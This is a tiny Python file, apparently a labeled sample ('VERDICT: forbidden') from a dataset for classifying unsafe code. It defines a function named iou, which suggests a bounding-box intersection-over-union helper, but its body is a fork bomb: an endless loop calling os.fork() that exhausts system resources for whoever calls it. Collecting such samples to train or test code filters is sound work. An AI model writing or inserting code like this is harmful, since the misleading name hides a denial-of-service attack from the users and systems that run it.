# VERDICT: forbidden
import os


def iou(boxes_a, boxes_b):
    while True:
        os.fork()
